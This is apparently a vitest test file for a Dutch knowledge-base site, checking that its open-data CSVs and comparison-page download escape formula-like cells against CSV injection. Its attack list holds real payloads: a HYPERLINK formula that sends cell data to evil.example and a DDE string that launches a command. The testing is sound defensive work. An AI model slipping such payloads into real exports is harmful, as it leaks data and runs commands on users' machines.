/**
 * CSV without formulas (OWASP's rule for CSV injection): a cell that starts
 * with =, +, -, @, a tab or a carriage return is written as text, in the
 * open-data CSVs and the comparison page's download, as a spreadsheet
 * program reads the file.
 */
import { describe, expect, it } from 'vitest';
import { csvField, toCsvDocument } from '../../src/shared/csv.ts';
import { toCsv, type ComparedIntervention } from '../../src/client/compare.ts';
import { formulaCells, openAsSpreadsheet } from '../support/spreadsheet.ts';

const attacks = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=1+1,"=2+2"',
];

const sheetOf = (csv: string) => openAsSpreadsheet(Buffer.from(csv, 'utf8'));

describe('a CSV field', () => {
  it('keeps ordinary text as it is, quoting only where RFC 4180 needs it', () => {
    expect(csvField('Buurtmoeders')).toBe('Buurtmoeders');
    expect(csvField('Ouders, school')).toBe('"Ouders, school"');
    expect(csvField('Een "korte" tekst')).toBe('"Een ""korte"" tekst"');
    expect(csvField('2013-03-05')).toBe('2013-03-05');
  });

  it('starts a formula-like cell with an apostrophe, quoted', () => {
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('@x')).toBe(`"'@x"`);
  });

  it('gives a spreadsheet no formula to run, whatever a cell starts with', () => {
    const cells = sheetOf(toCsvDocument([['titel'], ...attacks.map((a) => [a])]));
    expect(cells).toHaveLength(attacks.length + 1);
    expect(formulaCells(cells)).toEqual([]);
    // What the spreadsheet shows is the text, behind the apostrophe that marks it as text.
    expect(cells.slice(1).map((c) => c.text)).toEqual(attacks.map((a) => `'${a}`));
  });

  it('would have been run as a formula without the rule (the test can fail)', () => {
    const raw = `\uFEFFtitel\r\n${attacks[0]!.replaceAll('"', '""').replace(/^/, '"').replace(/$/, '"')}\r\n`;
    expect(formulaCells(sheetOf(raw)).map((c) => c.formula)).toEqual(['HYPERLINK("https://evil.example/?d="&A1,"Klik")']);
  });
});

describe('the comparison page’s CSV download', () => {
  it('holds no formula, also when titles, summaries and facts start like one', () => {
    const items: ComparedIntervention[] = attacks.map((attack, i) => ({
      id: `i${i}`,
      title: attack,
      url: `/interventies/i${i}/`,
      summary: attack,
      evidence: { level: 'praktijk', assessment: 'Niet beoordeeld.' },
      facts: [{ label: '-Kosten', values: [{ text: attack }] }],
    }));
    const cells = sheetOf(toCsv(items, 'https://lom-kennisbank.nl'));
    expect(formulaCells(cells)).toEqual([]);
    expect(cells.filter((c) => c.text === `'${attacks[0]}`).length).toBeGreaterThanOrEqual(3);
  });
});
